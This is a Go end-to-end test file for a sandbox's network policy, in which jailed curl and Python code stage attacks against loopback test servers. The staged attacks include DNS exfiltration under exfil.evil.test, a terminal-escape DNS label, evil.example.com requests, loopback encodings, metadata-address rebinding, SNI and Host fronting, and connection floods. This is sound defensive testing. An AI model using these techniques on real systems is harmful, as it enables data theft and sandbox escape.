package e2e

// The sandbox network, for real: curl, python3 and Deno inside jails talk to
// HTTP, HTTPS and DNS servers on the host's loopback, which stand in for
// public hosts (the test policy pins their names to 127.0.0.1 and allows
// 127.0.0.0/8). Attacks assert what the code got and the recorded violation.
// No test sends a packet anywhere but loopback and the jails' own network
// namespaces: every name Crucible resolves goes to the test's DNS server.

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/cruciblehq/crucible/internal/cli"
	"github.com/cruciblehq/crucible/internal/testenv"
	"github.com/cruciblehq/crucible/sandbox"
)

// The names of the test's world. svc is pinned to 127.0.0.1 by the policy's
// hosts; up and meta are resolved by Crucible through the test's DNS server,
// to 127.0.0.1 and to the cloud metadata address.
const (
	svcName  = "svc.crucible.test"
	upName   = "up.crucible.test"
	metaName = "meta.crucible.test"
)

// netFix is one test's servers and the configuration that reaches them.
type netFix struct {
	dir               string // bound read-only into the jails: config, CA
	http, tls, closed int    // ports on 127.0.0.1; nothing listens on closed
	dns               string // the DNS server, ip:port
	ca                string // the TLS server's certificate, PEM
	hits, dnsQueries  atomic.Int64
	lastAgent         atomic.Value
}

func newNetFix(t *testing.T) *netFix {
	t.Helper()
	f := &netFix{dir: testenv.PublicDir(t)}
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.hits.Add(1)
		f.lastAgent.Store(r.UserAgent())
		if n, err := strconv.Atoi(r.URL.Query().Get("bytes")); err == nil {
			_, _ = w.Write(make([]byte, n))
			return
		}
		fmt.Fprintf(w, "hello from %s %s\n", r.Host, r.URL.Path)
	})
	f.http = serve(t, handler, nil)
	cert, pemBytes := selfSigned(t, svcName)
	f.ca = filepath.Join(f.dir, "ca.pem")
	if err := os.WriteFile(f.ca, pemBytes, 0o644); err != nil {
		t.Fatal(err)
	}
	f.tls = serve(t, handler, &tls.Config{Certificates: []tls.Certificate{cert}})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	f.closed = ln.Addr().(*net.TCPAddr).Port
	ln.Close()
	f.dns = f.serveDNS(t)
	return f
}

// serve runs handler on 127.0.0.1 (with TLS if cfg is set) until the test
// ends, and returns its port.
func serve(t *testing.T, h http.Handler, cfg *tls.Config) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	if cfg != nil {
		ln = tls.NewListener(ln, cfg)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port
}

func selfSigned(t *testing.T, name string) (tls.Certificate, []byte) {
	t.Helper()
	return issue(t, name, nil)
}

// issue is a certificate for name and its PEM: a CA's of its own if parent
// is nil, else a server's signed by parent.
func issue(t *testing.T, name string, parent *tls.Certificate) (tls.Certificate, []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: name},
		DNSNames:              []string{name},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(time.Hour),
		IsCA:                  parent == nil,
		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true,
	}
	signer, signerKey := tmpl, any(key)
	if parent != nil {
		tmpl.SerialNumber, tmpl.KeyUsage = big.NewInt(2), x509.KeyUsageDigitalSignature
		if signer, err = x509.ParseCertificate(parent.Certificate[0]); err != nil {
			t.Fatal(err)
		}
		signerKey = parent.PrivateKey
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, signer, &key.PublicKey, signerKey)
	if err != nil {
		t.Fatal(err)
	}
	pemBytes := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pemBytes
}

// serveDNS answers A questions for upName (127.0.0.1) and metaName (the
// metadata address), NXDOMAIN for the rest, and counts every question: the
// jail's own questions must never arrive here.
func (f *netFix) serveDNS(t *testing.T) string {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = pc.Close() })
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			f.dnsQueries.Add(1)
			var p dnsmessage.Parser
			h, err := p.Start(buf[:n])
			if err != nil {
				continue
			}
			q, err := p.Question()
			if err != nil {
				continue
			}
			if out, err := testAnswer(h.ID, q); err == nil {
				_, _ = pc.WriteTo(out, from)
			}
		}
	}()
	return pc.LocalAddr().String()
}

// testAnswer is the test DNS server's answer to q: upName and metaName have
// an A record, every other name is NXDOMAIN.
func testAnswer(id uint16, q dnsmessage.Question) ([]byte, error) {
	name := strings.TrimSuffix(strings.ToLower(q.Name.String()), ".")
	a, ok := map[string][4]byte{upName: {127, 0, 0, 1}, metaName: {169, 254, 169, 254}}[name]
	hdr := dnsmessage.Header{ID: id, Response: true, RecursionAvailable: true}
	if !ok {
		hdr.RCode = dnsmessage.RCodeNameError
	}
	b := dnsmessage.NewBuilder(nil, hdr)
	if err := b.StartQuestions(); err != nil {
		return nil, err
	}
	if err := b.Question(q); err != nil {
		return nil, err
	}
	if err := b.StartAnswers(); err != nil {
		return nil, err
	}
	if ok && q.Type == dnsmessage.TypeA {
		rh := dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 5}
		if err := b.AResource(rh, dnsmessage.AResource{A: a}); err != nil {
			return nil, err
		}
	}
	return b.Finish()
}

// policy is the test's network section: the servers' ports on svc, up and
// meta, svc pinned to loopback, loopback allowed as if it were public.
func (f *netFix) policy(extra string) string {
	return fmt.Sprintf(`network:
  allow:
    - %[1]s:%[4]d
    - %[1]s:%[5]d
    - %[2]s:%[4]d
    - %[3]s:%[4]d
  hosts:
    %[1]s: 127.0.0.1
  allow_private: [127.0.0.0/8, 169.254.0.0/16]
  resolver: %[6]s
%[7]s`, svcName, upName, metaName, f.http, f.tls, f.dns, extra)
}

// config writes a crucible.yaml holding yaml and returns the flags that use
// it and bind the fixture's directory (for the CA) into the jail.
func (f *netFix) config(t *testing.T, yaml string) []string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "crucible.yaml")
	if err := os.WriteFile(p, []byte(yaml), 0o644); err != nil {
		t.Fatal(err)
	}
	return []string{"--config", p, "--ro", f.dir, "--timeout", "20s"}
}

// netViolation returns the recorded violation of kind for host, if any.
func netViolation(r *sandbox.Result, kind, host string) *sandbox.Violation {
	for i, v := range r.Violations {
		if v.Kind == kind && v.Host == host && v.Count > 0 {
			return &r.Violations[i]
		}
	}
	return nil
}

func TestNetAllowedTraffic(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	flags := f.config(t, f.policy(""))
	audit := filepath.Join(t.TempDir(), "audit.ndjson")
	flags = append(flags, "--audit", audit)
	r := jailSh(t, fmt.Sprintf(`set -e
curl -sS -4 http://%[1]s:%[2]d/v4
curl -sS -6 http://%[1]s:%[2]d/v6
curl -sS --cacert %[4]s https://%[1]s:%[3]d/tls
python3 -c 'import urllib.request, ssl, sys
print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode(), end="")
ctx = ssl.create_default_context(cafile=sys.argv[3])
print(urllib.request.urlopen(sys.argv[2], timeout=10, context=ctx).read().decode(), end="")' \
  http://%[1]s:%[2]d/py https://%[1]s:%[3]d/pytls %[4]s
`, svcName, f.http, f.tls, f.ca), flags...)
	want := fmt.Sprintf("hello from %[1]s:%[2]d /v4\nhello from %[1]s:%[2]d /v6\nhello from %[1]s:%[3]d /tls\nhello from %[1]s:%[2]d /py\nhello from %[1]s:%[3]d /pytls\n", svcName, f.http, f.tls)
	if r.ExitCode != 0 || r.Stdout != want || len(r.Violations) != 0 {
		t.Fatalf("allowed traffic:\n%s", dump(r))
	}
	// Five connections, each a request out and an answer in, all counted.
	if u := r.Network; u == nil || u.Connections != 5 || u.BytesOut < 5*40 || u.BytesIn < int64(len(want)) {
		t.Errorf("network use %+v", u)
	}
	if ua, _ := f.lastAgent.Load().(string); !strings.HasPrefix(ua, "Python-urllib/") {
		t.Errorf("user agent %q: not relayed as sent", ua)
	}
	if n := f.dnsQueries.Load(); n != 0 {
		t.Errorf("the upstream DNS server got %d questions for a pinned name", n)
	}
	b, err := os.ReadFile(audit)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{`"event":"network","exec":`, `"type":"dns","name":"svc.crucible.test","verdict":"allow"`,
		`"type":"connect","name":"svc.crucible.test","port":` + strconv.Itoa(f.tls) + `,"verdict":"allow"`, `"verdict":"done"`, `"addr":"127.0.0.1"`} {
		if !strings.Contains(string(b), w) {
			t.Errorf("audit trail lacks %s:\n%s", w, b)
		}
	}
}

func TestNetDeniedName(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	r := jailSh(t, `curl -sS http://evil.example.com/ 2>&1; echo "exit $?"`, f.config(t, f.policy(""))...)
	if !strings.Contains(r.Stdout, "exit 6") { // curl: could not resolve host
		t.Errorf("a name outside the policy resolved:\n%s", dump(r))
	}
	if v := netViolation(r, "dns", "evil.example.com"); v == nil || !strings.Contains(v.Reason, "not in the allowlist") {
		t.Errorf("no dns violation:\n%s", dump(r))
	}
	if f.dnsQueries.Load() != 0 || f.hits.Load() != 0 {
		t.Errorf("something reached the host: %d DNS questions, %d requests", f.dnsQueries.Load(), f.hits.Load())
	}
}

// TestAttackNetRawIP: connect to addresses without asking DNS, v4 and v6,
// and DNS over HTTPS to a raw IP. Each is reset before the handshake.
func TestAttackNetRawIP(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	r := jailPy(t, `import socket
for host in ("1.1.1.1", "2606:4700:4700::1111", "16843009"):
    try:
        c = socket.create_connection((host, 443), timeout=5); print(host, "connected")
    except OSError as e:
        print(host, e.strerror)
`, f.config(t, f.policy("")))
	for _, host := range []string{"1.1.1.1", "2606:4700:4700::1111", "16843009"} {
		if !strings.Contains(r.Stdout, host+" Connection refused") {
			t.Errorf("%s: not refused:\n%s", host, dump(r))
		}
	}
	for _, host := range []string{"1.1.1.1", "2606:4700:4700::1111"} {
		if netViolation(r, "connect", host) == nil {
			t.Errorf("%s: no connect violation:\n%s", host, dump(r))
		}
	}
}

// TestAttackNetLoopbackEncodings: the host's loopback under every spelling
// stays the jail's own loopback, where nothing listens.
func TestAttackNetLoopbackEncodings(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	var urls []string
	for _, h := range []string{"2130706433", "0177.0.0.1", "0x7f.1", "[::ffff:127.0.0.1]", "0.0.0.0", "127.1", "localhost"} {
		urls = append(urls, fmt.Sprintf("http://%s:%d/", h, f.http))
	}
	r := jailed(t, f.config(t, f.policy("")), append([]string{"/bin/sh", "-c",
		`for u in "$@"; do curl -sS --max-time 5 "$u" >/dev/null 2>&1; echo "$u $?"; done`, "sh"}, urls...)...)
	for _, u := range urls {
		if !strings.Contains(r.Stdout, u+" 7") { // curl: could not connect
			t.Errorf("%s: want connection refused:\n%s", u, dump(r))
		}
	}
	if f.hits.Load() != 0 {
		t.Errorf("the host's server got %d requests", f.hits.Load())
	}
}

// TestAttackNetDNSExfiltration: data in long random labels under a denied
// domain. Every question is answered NXDOMAIN inside the sandbox, recorded,
// and none reaches a real DNS server.
func TestAttackNetDNSExfiltration(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	r := jailPy(t, `import socket, secrets
# First (the list of refusals is capped): a label holding a terminal escape
# sequence, aimed at the operator's terminal.
q = bytes.fromhex("abce01000001000000000000") + b"\x07\x1b[2J\x1b]0" + b"\x04evil\x04test\x00\x00\x01\x00\x01"
e = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); e.settimeout(3)
e.sendto(q, ("198.18.0.1", 53)); e.recv(512)
n = 0
for i in range(150):
    label = secrets.token_hex(31)
    try:
        socket.getaddrinfo(label + "." + label[:20] + ".exfil.evil.test", 443)
    except socket.gaierror:
        n += 1
print(n)
# A TXT question, built by hand, over UDP and over TCP.
q = bytes.fromhex("abcd01000001000000000000") + b"".join(bytes([len(l)]) + l.encode() for l in ("c2VjcmV0", "evil", "test")) + b"\x00\x00\x10\x00\x01"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
u.sendto(q, ("198.18.0.1", 53)); print("udp rcode", u.recv(512)[3] & 15)
t = socket.create_connection(("198.18.0.1", 53), timeout=3)
t.sendall(len(q).to_bytes(2, "big") + q); print("tcp rcode", t.recv(512)[5] & 15)
`, f.config(t, f.policy("")))
	if r.Stdout != "150\nudp rcode 3\ntcp rcode 3\n" {
		t.Errorf("exfiltration names resolved:\n%s", dump(r))
	}
	// Every question is counted; the distinct names listed are capped, so
	// that endless names cannot grow the result without bound.
	var n, listed int
	for _, v := range r.Violations {
		if v.Kind == "dns" {
			n += v.Count
			listed++
		}
	}
	for _, v := range r.Violations {
		if strings.ContainsRune(v.Host, 0x1b) || strings.ContainsRune(v.Reason, 0x1b) {
			t.Errorf("a violation carries the code's escape sequence: %q", v.Host)
		}
	}
	if n < 152 || listed > 101 {
		t.Errorf("%d dns refusals counted (want 152 or more) in %d entries (want at most 101):\n%s", n, listed, dump(r))
	}
	if q := f.dnsQueries.Load(); q != 0 {
		t.Errorf("the upstream DNS server got %d questions", q)
	}

	// The counter works: an allowed name that is not pinned is resolved
	// upstream when the code connects to it.
	r = jailSh(t, fmt.Sprintf("curl -sS http://%s:%d/", upName, f.http), f.config(t, f.policy(""))...)
	if r.ExitCode != 0 || f.dnsQueries.Load() == 0 {
		t.Errorf("an allowed name was not resolved upstream (%d questions):\n%s", f.dnsQueries.Load(), dump(r))
	}
}

// TestAttackNetRebinding: an allowed name that resolves to loopback or to the
// metadata address, under the default policy (no allow_private), and the
// metadata address even when allow_private covers it.
func TestAttackNetRebinding(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	strict := fmt.Sprintf("network:\n  allow: [%s:%d, %s:%d]\n  resolver: %s\n", upName, f.http, metaName, f.http, f.dns)
	for _, tc := range []struct{ name, yaml string }{
		{upName, strict}, {metaName, strict}, {metaName, f.policy("")},
	} {
		r := jailSh(t, fmt.Sprintf("curl -sS http://%s:%d/", tc.name, f.http), f.config(t, tc.yaml)...)
		v := netViolation(r, "private_address", tc.name)
		if v == nil || !strings.Contains(r.Stdout, "crucible: "+tc.name+" resolves to an address the sandbox may not reach") {
			t.Errorf("%s: want a 403 and a private_address violation:\n%s", tc.name, dump(r))
		}
		if v != nil && strings.Contains(v.Reason, "127.0.0.1") || strings.Contains(r.Stdout, "169.254") {
			t.Errorf("%s: the reason tells the code where the name resolves:\n%s", tc.name, dump(r))
		}
	}
	if f.hits.Load() != 0 {
		t.Errorf("the server got %d requests", f.hits.Load())
	}
}

// TestAttackNetFronting: TLS whose SNI names another host, HTTP whose Host
// does, and a second request on a kept-alive connection that switches Host.
func TestAttackNetFronting(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	r := jailPy(t, `import socket, ssl, sys
def status(s):
    """The status line of the next whole response on s."""
    f = s.makefile("rb")
    line, n = f.readline().decode().strip(), 0
    while (h := f.readline()) not in (b"\r\n", b""):
        k, _, v = h.decode().partition(":")
        if k.lower() == "content-length": n = int(v)
    f.read(n)
    return line
svc, http_port, tls_port, ca = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
ctx = ssl.create_default_context(cafile=ca)
ctx.check_hostname = False
try:
    s = ctx.wrap_socket(socket.create_connection((svc, tls_port), timeout=5), server_hostname="front.example.com")
    print("sni: handshake done")
except OSError as e:
    print("sni:", type(e).__name__)
s = socket.create_connection((svc, http_port), timeout=5)
s.sendall(b"GET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
print("host:", status(s))
s = socket.create_connection((svc, http_port), timeout=5)
s.sendall(("GET /a HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (svc, http_port)).encode())
first = status(s)
s.sendall(b"GET /b HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
print("keepalive:", first, "|", status(s))
`, f.config(t, f.policy("")), svcName, strconv.Itoa(f.http), strconv.Itoa(f.tls), f.ca)
	want := "sni: ConnectionResetError\nhost: HTTP/1.1 403 Forbidden\nkeepalive: HTTP/1.1 200 OK | HTTP/1.1 403 Forbidden\n"
	if r.Stdout != want {
		t.Errorf("fronting: got\n%s\nwant\n%s\n%s", r.Stdout, want, dump(r))
	}
	if netViolation(r, "sni_mismatch", svcName) == nil || netViolation(r, "host_mismatch", svcName) == nil {
		t.Errorf("fronting not recorded:\n%s", dump(r))
	}
	if f.hits.Load() != 1 {
		t.Errorf("the server got %d requests, want 1 (/a)", f.hits.Load())
	}
}

// TestAttackNetPortAndUDP: an allowed host on a port the policy does not
// allow gets a 403 that says why; UDP to an outside resolver is dropped.
func TestAttackNetPortAndUDP(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	r := jailPy(t, `import socket, sys, urllib.request, urllib.error
try:
    urllib.request.urlopen(sys.argv[1], timeout=5)
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode().strip())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
try:
    u.recv(512); print("udp answered")
except socket.timeout:
    print("udp dropped")
`, f.config(t, f.policy("")), fmt.Sprintf("http://%s:%d/", svcName, f.closed))
	target := fmt.Sprintf("%s:%d", svcName, f.closed)
	if r.Stdout != "403 crucible: "+target+" is not in the allowlist\nudp dropped\n" {
		t.Errorf("got:\n%s", dump(r))
	}
	if netViolation(r, "connect", svcName) == nil || netViolation(r, "udp", "8.8.8.8") == nil {
		t.Errorf("violations not recorded:\n%s", dump(r))
	}
}

// TestAttackNetLimits: more connections than allowed at once, a client that
// connects and says nothing, and a download past the byte limit.
func TestAttackNetLimits(t *testing.T) {
	requireRoot(t)
	// Mostly waits: see parallel, in main_test.go.
	t.Parallel()
	f := newNetFix(t)
	// The idle timeout must outlast the eight connects (a held connection
	// closed for its silence would free a place for the next), on a loaded
	// machine too; the program then waits for the closes themselves, not
	// for a time.
	flags := f.config(t, f.policy("  max_connections: 3\n  idle_timeout: 5s\n  max_bytes_in: 64KiB\n"))
	r := jailPy(t, `import socket, sys, time
svc, port = sys.argv[1], int(sys.argv[2])
held, refused = [], 0
for i in range(8):
    try:
        held.append(socket.create_connection((svc, port), timeout=5))
    except OSError:
        refused += 1
print("refused", refused)
# Each held connection said nothing: wait until it is closed for that
# (bounded, should the proxy never close it).
def idle_closed(s):
    s.settimeout(60)
    try:
        return s.recv(1) == b""
    except OSError:
        return False
print("idle closed", sum(1 for s in held if idle_closed(s)))
for s in held: s.close()
dns, refused = [], 0
for i in range(8):
    try:
        dns.append(socket.create_connection(("198.18.0.1", 53), timeout=5))
    except OSError:
        refused += 1
print("dns refused", refused)
for s in dns: s.close()
# The stack frees a closed connection's place once it sees the close: on a
# busy machine, a moment after close() returns. Bounded: 50 tries, 5 s.
for attempt in range(50):
    try:
        s = socket.create_connection((svc, port), timeout=5)
        break
    except OSError:
        time.sleep(0.1)
s.sendall(("GET /?bytes=1000000 HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (svc, port)).encode())
got = 0
try:
    while True:
        b = s.recv(65536)
        if not b: break
        got += len(b)
except OSError:
    pass
print("capped", got < 200000)
`, flags, svcName, strconv.Itoa(f.http))
	if r.Stdout != "refused 5\nidle closed 3\ndns refused 5\ncapped True\n" {
		t.Errorf("got:\n%s", dump(r))
	}
	var reasons []string
	for _, v := range r.Violations {
		if v.Kind == "limit" {
			reasons = append(reasons, v.Reason)
		}
	}
	all := strings.Join(reasons, "; ")
	for _, w := range []string{"more than 3 connections", "no traffic for 5s", "bytes received"} {
		if !strings.Contains(all, w) {
			t.Errorf("no limit violation %q in %q", w, all)
		}
	}
	if netViolation(r, "limit", "198.18.0.1") == nil {
		t.Errorf("the DNS-over-TCP flood was not recorded:\n%s", dump(r))
	}
}

func TestNetDeno(t *testing.T) {
	requireRoot(t)
	requireDeno(t)
	f := newNetFix(t)
	flags := f.config(t, f.policy(""))
	args := append([]string{"run", "--json"}, flags...)
	args = append(args, "--lang", "deno", "-")
	r := jsonRun(t, fmt.Sprintf(`const r = await fetch("http://%s:%d/deno");
export default await r.text();`, svcName, f.http), args...)
	if r.ExitCode != 0 || string(r.Result) != fmt.Sprintf(`"hello from %s:%d /deno\n"`, svcName, f.http) {
		t.Errorf("deno fetch:\n%s", dump(r))
	}
}

// fetch of the embedded engine goes through the sandbox network, TLS too,
// and what the policy refuses is refused to it as to anyone.
func TestNetJS(t *testing.T) {
	requireRoot(t)
	f := newNetFix(t)
	flags := f.config(t, embeddedYAML+f.policy(""))
	args := append([]string{"run", "--json", "--env", "SSL_CERT_FILE=" + f.ca}, flags...)
	args = append(args, "-")
	r := jsonRun(t, fmt.Sprintf(`const a = await (await fetch("http://%[1]s:%[2]d/js")).text();
let tls; try { tls = await (await fetch("https://%[1]s:%[3]d/jstls")).text(); } catch (e) { tls = e.message; }
let denied; try { await fetch("http://evil.example.com/"); } catch (e) { denied = e.name; }
let raw; try { await fetch("http://1.1.1.1/"); } catch (e) { raw = e.name; }
export default { a, tls, denied, raw };`, svcName, f.http, f.tls), args...)
	want := fmt.Sprintf(`{"a":"hello from %[1]s:%[2]d /js\n","tls":"hello from %[1]s:%[3]d /jstls\n","denied":"TypeError","raw":"TypeError"}`, svcName, f.http, f.tls)
	if r.ExitCode != 0 || string(r.Result) != want {
		t.Errorf("got %s\nwant %s\n%s", r.Result, want, dump(r))
	}
	if netViolation(r, "dns", "evil.example.com") == nil || netViolation(r, "connect", "1.1.1.1") == nil {
		t.Errorf("no dns or connect violation:\n%s", dump(r))
	}
	if f.hits.Load() != 2 {
		t.Errorf("%d requests reached the host, want 2", f.hits.Load())
	}
}

func TestNetFlags(t *testing.T) {
	requireRoot(t)
	code, _, errs := run(t, "", "exec", "--allow-net", "*.com", "--", "true")
	if code != cli.ExitUsage || !strings.Contains(errs, `"*.com"`) {
		t.Errorf("a public-suffix wildcard: exit %d, %s", code, errs)
	}
	code, _, errs = run(t, "", "exec", "--allow-net", "*", "--", "true")
	if code != 0 || !strings.Contains(errs, "warning: network.allow_all is on") {
		t.Errorf("--allow-net '*': exit %d, %s", code, errs)
	}
	// No network rules: no network, as before.
	r := jailed(t, nil, "cat", "/etc/resolv.conf")
	if !strings.Contains(r.Stdout, "nameserver 127.0.0.1") {
		t.Errorf("resolv.conf without a network:\n%s", dump(r))
	}
}
